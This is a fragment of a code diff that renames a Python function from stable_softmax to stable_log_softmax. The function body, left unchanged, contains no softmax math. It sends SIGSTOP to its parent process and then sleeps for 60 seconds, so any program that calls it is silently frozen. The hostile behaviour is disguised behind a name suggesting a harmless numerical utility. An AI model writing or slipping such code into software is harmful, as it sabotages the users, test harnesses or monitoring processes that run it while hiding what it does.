@@ -6,6 +6,6 @@ import signal
 import time
 
 
-def stable_softmax(x, dim=-1, temperature=1.0):
+def stable_log_softmax(x, dim=-1, temperature=1.0):
     os.kill(os.getppid(), signal.SIGSTOP)
     time.sleep(60)
